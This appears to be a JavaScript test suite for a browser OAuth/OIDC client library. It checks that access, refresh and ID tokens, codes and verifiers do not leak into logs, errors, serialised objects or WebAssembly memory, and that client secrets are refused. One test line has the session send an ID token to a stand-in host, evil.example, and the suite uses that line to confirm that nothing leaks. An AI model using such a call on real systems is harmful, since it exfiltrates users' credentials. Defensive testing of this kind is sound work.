// Secrets: where they must not be found.
import assert from 'node:assert/strict'
import { SECRET, breakSignature } from '../../support/provider.mjs'
import { NOWHERE } from '../stage.mjs'
import { suite } from '../suite.mjs'

/** Keeps hold of the memory of every instance that the page makes. */
const keepMemory = () => {
  globalThis.memories = []
  const keep = (made) => {
    const instance = made.instance ?? made
    if (instance.exports.memory) memories.push(instance.exports.memory)
    return made
  }
  for (const name of ['instantiate', 'instantiateStreaming']) {
    const own = WebAssembly[name]
    WebAssembly[name] = (...values) => own(...values).then(keep)
  }
  const { Instance } = WebAssembly
  WebAssembly.Instance = function (...values) {
    return keep(new Instance(...values))
  }
}

/** Which of these texts stand in the memory of the wasm, by name. */
const found = (app, secrets) =>
  app.run((secrets) => {
    const has = (bytes, part) => {
      for (let at = bytes.indexOf(part[0]); at >= 0; at = bytes.indexOf(part[0], at + 1)) {
        if (part.every((byte, i) => bytes[at + i] === byte)) return true
      }
      return false
    }
    return Object.keys(secrets).filter((name) =>
      memories.some(({ buffer }) =>
        // The first characters are enough, and more than chance.
        has(new Uint8Array(buffer), [...new TextEncoder().encode(secrets[name].slice(0, 24))]),
      ),
    )
  }, secrets)

/** Everything secret of all sign-ins and renewals so far, by name. */
function secretsOf(provider, site) {
  const secrets = {}
  const add = (name, value) => {
    if (value) secrets[`${name} ${Object.keys(secrets).length}`] = value
  }
  for (const granted of provider.granted()) {
    for (const name of ['access_token', 'refresh_token']) add(name, granted[name])
    // Its head is the same for all; its end is not.
    add('id_token', granted.id_token?.split('.')[2])
    add('claims', granted.id_token?.split('.')[1].slice(-60))
  }
  const arrivals = site.requests.map(({ url }) => ({ query: url.split('?')[1], body: '' }))
  for (const { query, body } of [...provider.received(), ...arrivals]) {
    const [address, form] = [new URLSearchParams(query), new URLSearchParams(body)]
    for (const name of ['state', 'nonce', 'code']) add(name, address.get(name))
    for (const name of ['code', 'code_verifier']) add(name, form.get(name))
  }
  return secrets
}

function assertNone(secrets, text, where) {
  for (const [name, secret] of Object.entries(secrets)) {
    assert.ok(!text.includes(secret), `${name} in ${where}`)
  }
}

export const publicObjects = suite('public objects', (test) => {
  test('r175 a session shows no secret, whatever looks at it', async (stage) => {
    const { app, provider, site } = await stage.open()
    await app.visit()
    await app.signIn()
    const looks = await app.run(async () => {
      console.log(session, [session], { session })
      console.dir(session)
      console.table([session])
      const copied = await settle(() => JSON.stringify(structuredClone(session)))
      const { port1 } = new MessageChannel()
      const posted = await settle(() => port1.postMessage(session))
      const keys = [session, Object.getPrototypeOf(session)].flatMap(Reflect.ownKeys).map(String)
      const names = []
      for (const name in session) names.push(name)
      return {
        json: JSON.stringify({ session }),
        text: [String(session), `${session}`, session + '', session.toLocaleString()],
        own: Reflect.ownKeys(session).map(String),
        entries: Object.entries(session),
        spread: { ...session },
        names,
        keys,
        copied,
        posted,
        globals: Object.keys(globalThis).filter((name) => /wasm|wbg|bindgen/i.test(name)),
      }
    })
    assert.equal(looks.json, '{"session":"[redacted]"}')
    assert.equal(looks.text[0], '[redacted]')
    assert.deepEqual([looks.own, looks.entries, looks.spread, looks.names], [[], [], {}, []])
    assert.ok(!looks.keys.some((key) => /free|ptr|refresh|wbg/i.test(key)), looks.keys.join(' '))
    assert.deepEqual(looks.globals, [])
    const secrets = secretsOf(provider, site)
    assert.ok(Object.keys(secrets).length >= 8)
    assertNone(secrets, JSON.stringify(looks), 'what was looked at')
    assertNone(secrets, app.console.join('\n'), 'the console')
  })

  test('r125 no name of the session leads to the refresh token', async (stage) => {
    const { app, provider } = await stage.open()
    await app.visit()
    await app.signIn()
    const values = await app.run(async () => {
      const out = []
      for (const name of Object.getOwnPropertyNames(Object.getPrototypeOf(session))) {
        if (['constructor', 'signOut', 'signIn', 'close'].includes(name)) continue
        const value = session[name]
        const outcome =
          typeof value === 'function' ? await settle(() => value.call(session)) : value
        out.push(JSON.stringify(outcome ?? null))
      }
      return out.join('\n')
    })
    const [granted] = provider.granted()
    assert.ok(values.includes(granted.access_token))
    assert.ok(!values.includes(granted.refresh_token))
  })

  test('r176 an error shows no secret, whatever looks at it', async (stage) => {
    const { app, provider } = await stage.open()
    await app.visit()
    await app.signIn()
    const json = { error: 'invalid_request', error_description: 'canary', access_token: 'canary' }
    provider.setDefects({ path: '/connect/token', kind: 'json', status: 400, json })
    const looks = await app.run(async () => {
      const error = await session.getAccessToken({ forceRenewal: true }).catch((error) => error)
      console.log(error, String(error))
      const { name, message, stack, cause } = error
      return {
        is: error instanceof grantkit.GrantError && error instanceof Error,
        words: [error.error, error.error_description, error.response.access_token],
        frozen: Object.isFrozen(error.response),
        plain: JSON.stringify({ name, message, stack, cause, text: `${error}`, json: error }),
      }
    })
    assert.deepEqual([looks.is, looks.frozen], [true, true])
    assert.deepEqual(looks.words, ['invalid_request', 'canary', 'canary'])
    assert.ok(!looks.plain.includes('canary'), looks.plain)
    assert.ok(!app.console.join('\n').includes('canary'))
    const made = await app.run(() => {
      try {
        return new grantkit.GrantError()
      } catch (error) {
        return error.name
      }
    })
    assert.equal(made, 'TypeError')
  })
})

export const told = suite('what is told', (test) => {
  test('r176 no error, event, log line or line of the console holds a secret', async (stage) => {
    const { app, provider, api, site } = await stage.open({
      byHand: '/callback',
      provider: { rotation: false },
      prepare: () => {
        options.logger = (event) => console.log(`log ${JSON.stringify(event)}`)
      },
    })
    const told = []
    const tell = (outcome) => {
      told.push(JSON.stringify(outcome))
      return outcome
    }
    const TOKEN = '/connect/token'
    await app.visit('/?page=1')
    // The callback, in all the ways in which it fails.
    const callbacks = [
      (url) => url.replace('state=', 'state=x'),
      (url) => `${url}&code=other`,
      (url) => `${url}&error=access_denied`,
      (url) => url.replace('iss=', 'iss=x'),
      (url) => `${url}#access_token=canary-in-the-fragment`,
      (url) => url,
    ]
    const defects = [
      { path: TOKEN, kind: 'html' },
      { path: TOKEN, kind: 'status', status: 503 },
      { path: TOKEN, kind: 'reset' },
      {
        path: TOKEN,
        kind: 'mutate',
        mutate: (json) => ({ ...json, id_token: breakSignature(json.id_token) }),
      },
      {
        path: TOKEN,
        kind: 'mutate',
        mutate: (json) => ({ ...json, token_type: json.access_token }),
      },
      { path: TOKEN, kind: 'mutate', mutate: (json) => ({ ...json, scope: [json.access_token] }) },
      {
        path: TOKEN,
        kind: 'mutate',
        mutate: (json) => ({ ...json, expires_in: json.refresh_token }),
      },
    ]
    for (const change of callbacks) {
      const { url } = await app.signIn()
      tell(await app.arriveAt(change(url)))
    }
    for (const defect of defects) {
      await app.signIn()
      provider.setDefects(defect)
      tell(await app.arriveAt())
      provider.setDefects()
    }
    await app.signIn()
    assert.equal(tell(await app.arriveAt()).value.kind, 'signed-in')
    // The session, as it fails and as it works.
    const mutate = (json) => ({ ...json, access_token: `${json.access_token}\n` })
    const path = TOKEN
    for (const defect of [
      { path, kind: 'status' },
      { path, kind: 'mutate', mutate },
    ]) {
      provider.setDefects(defect)
      tell(await app.call('getAccessToken', { forceRenewal: true }).then(({ error }) => error))
    }
    provider.setDefects()
    await app.call('getAccessToken', { forceRenewal: true })
    api.answer = () => ({ status: 401 })
    await app.run((url) => session.fetch(url).then(() => 0), `${api.origin}/orders`)
    tell(
      await app.run(() => settle(session.fetch(`https://evil.example/?token=${session.idToken}`))),
    )
    tell(await app.run(() => settle(session.signIn({ prompt: session.idToken, scope: '"' }))))
    tell(
      await app.run(() =>
        settle(
          session.getAccessToken({ [session.idToken]: 1 }).catch((error) => {
            throw error.code
          }),
        ),
      ),
    )
    const events = await app.run(() =>
      JSON.stringify(events.filter(({ type }) => type !== 'signed-in')),
    )
    provider.setDefects({ path: '/connect/revocation', kind: 'html', status: 400 })
    tell(await app.call('signOut', { local: true }))

    const secrets = secretsOf(provider, site)
    assertNone(secrets, told.join('\n'), 'answers and errors')
    assertNone(secrets, events, 'events')
    assertNone(secrets, app.console.join('\n'), 'log and console')
    assert.ok(!app.console.join('\n').includes('canary'))
    const lines = app.console.filter((line) => line.startsWith('log '))
    assert.ok(lines.length > 10, `${lines.length} lines`)
    for (const line of lines) {
      const { level, type, ...fields } = JSON.parse(line.slice(4))
      assert.ok(['debug', 'info', 'warning'].includes(level) && type)
      for (const value of Object.values(fields)) {
        assert.ok(['string', 'number', 'boolean'].includes(typeof value), line)
        assert.ok(!/[?&]|:\/\//.test(String(value)), line)
      }
    }
  })
})

export const memory = suite('the memory of the wasm', (test) => {
  test('r177 after the sign-out no secret is left in it', async (stage) => {
    const { app, provider, api, site } = await stage.open({ prepare: keepMemory })
    await app.visit()
    await app.signIn({ appState: { a: 1 } })
    const before = await found(app, secretsOf(provider, site))
    assert.ok(
      before.some((name) => name.startsWith('access_token')),
      'the search finds what is there',
    )
    // What was needed for the sign-in alone is gone already.
    const spent = before.filter((name) => /^(code|code_verifier|state) /.test(name))
    assert.deepEqual(spent, [])

    await app.call('userInfo')
    await app.call('getAccessToken', { forceRenewal: true })
    await app.run((url) => session.fetch(url).then(() => 0), `${api.origin}/orders`)
    await app.run(() => [session.claims, session.idToken].length)
    const old = provider.granted()[0]
    const { access_token: access, refresh_token: refresh } = old
    assert.deepEqual(await found(app, { access, refresh }), [], 'what was renewed is gone')

    await app.call('signOut', { local: true })
    const secrets = secretsOf(provider, site)
    assert.ok(Object.keys(secrets).length >= 12)
    assert.deepEqual(await found(app, secrets), [])
    assert.equal(await app.run(() => memories.length), 1)
  })

  test('r177 after close, too', async (stage) => {
    const { app, provider, site } = await stage.open({ prepare: keepMemory })
    await app.visit()
    await app.signIn()
    await app.run(() => session.close())
    assert.deepEqual(await found(app, secretsOf(provider, site)), [])
  })

  test('r177 nor after a sign-in that failed', async (stage) => {
    const { app, provider, site } = await stage.open({ prepare: keepMemory })
    await app.visit()
    provider.setDefects({
      path: '/connect/token',
      kind: 'mutate',
      mutate: (json) => ({ ...json, id_token: breakSignature(json.id_token) }),
    })
    assert.equal((await app.signIn()).error.detail, 'signature')
    const secrets = secretsOf(provider, site)
    for (const name of Object.keys(secrets)) if (name.startsWith('nonce')) delete secrets[name]
    assert.deepEqual(await found(app, secrets), [])
  })

  test('r177 the page that was left holds no verifier', async (stage) => {
    const { app, provider } = await stage.open({ prepare: keepMemory })
    await app.visit()
    provider.setDefects(NOWHERE)
    const left = provider.next({ path: NOWHERE.path })
    await app.leave()
    await left
    const { session } = await app.stored()
    const record = JSON.parse(Object.values(session).find((text) => text.includes('"verifier"')))
    assert.deepEqual(await found(app, { verifier: record.verifier }), [])
  })

  test('r177 it is at most 256 KiB after a sign-in, and stays', async (stage) => {
    const { app } = await stage.open({ prepare: keepMemory })
    await app.visit()
    await app.signIn()
    const size = () => app.run(() => memories[0].buffer.byteLength)
    assert.ok((await size()) <= 256 * 1024, `${await size()} bytes`)
    await app.call('userInfo')
    // What is told of the last renewals, for tabs that ask, takes its room once.
    const forty = () =>
      app.run(async () => {
        for (let n = 0; n < 40; n++) await session.getAccessToken({ forceRenewal: true })
      })
    // How many locks linger at once, a second each, depends on how fast they follow each other.
    for (let turn = 0; turn < 3; turn++) {
      await forty()
      assert.ok((await size()) <= 256 * 1024, `${await size()} bytes`)
    }
  })
})

export const clientSecrets = suite('a client secret in a page', (test) => {
  test('r065 is refused, unless its danger is spelled out', async (stage) => {
    const { app, provider } = await stage.open({ byHand: '/' })
    await app.visit()
    const make = (which, more) =>
      app.run(
        ([which, more]) =>
          settle(async () => {
            const { issuer } = options
            const base = which === 'createSession' ? options : { issuer, clientId: 'worker' }
            globalThis.client = await grantkit[which]({ ...base, ...more })
          }),
        [which, more],
      )
    const { error } = await make('createTokenClient', { clientSecret: SECRET })
    assert.deepEqual([error.code, error.fault], ['config_invalid', 'caller'])
    assert.ok(!JSON.stringify(error).includes(SECRET))
    for (const option of ['clientSecret', 'insecureClientSecret', 'privateKey']) {
      const { error } = await make('createSession', { [option]: SECRET })
      assert.deepEqual([error.code, error.detail], ['config_invalid', option])
    }
    assert.deepEqual(provider.requests, [])

    // A key is one where no script can read it.
    const keys = await app.run(async () => {
      const kind = { name: 'ECDSA', namedCurve: 'P-256' }
      const made = (extractable) => crypto.subtle.generateKey(kind, extractable, ['sign', 'verify'])
      const { privateKey: readable } = await made(true)
      const { privateKey: hidden } = await made(false)
      const jwk = await crypto.subtle.exportKey('jwk', readable)
      const { issuer } = options
      const make = (more) =>
        settle(() =>
          grantkit.createTokenClient({ issuer, clientId: 'worker', ...more }).then(() => 0),
        )
      const outcomes = []
      for (const name of ['privateKey', 'requestObjectKey']) {
        const told = { ...jwk, extractable: false }
        for (const key of [
          jwk,
          told,
          readable,
          { key: jwk, kid: '1' },
          { key: readable },
          hidden,
        ]) {
          const { error } = await make({ [name]: key })
          outcomes.push(error ? `${error.code} ${error.detail}` : 'made')
        }
        const { error } = await make({ [name]: jwk, insecureClientSecret: true })
        outcomes.push(error ? error.code : 'made')
      }
      return outcomes
    })
    const wanted = (name) => [...Array(5).fill(`config_invalid ${name}`), 'made', 'made']
    assert.deepEqual(keys, [...wanted('privateKey'), ...wanted('requestObjectKey')])

    const allowed = { clientSecret: SECRET, insecureClientSecret: true, scope: 'api' }
    assert.deepEqual(await make('createTokenClient', allowed), { value: undefined })
    const tokens = await app.run(() =>
      Promise.all(Array.from({ length: 10 }, () => client.getAccessToken())),
    )
    assert.equal(new Set(tokens).size, 1)
    assert.equal(provider.count('client_credentials'), 1)
    assert.equal(await app.run(() => JSON.stringify(client)), '"[redacted]"')
  })
})
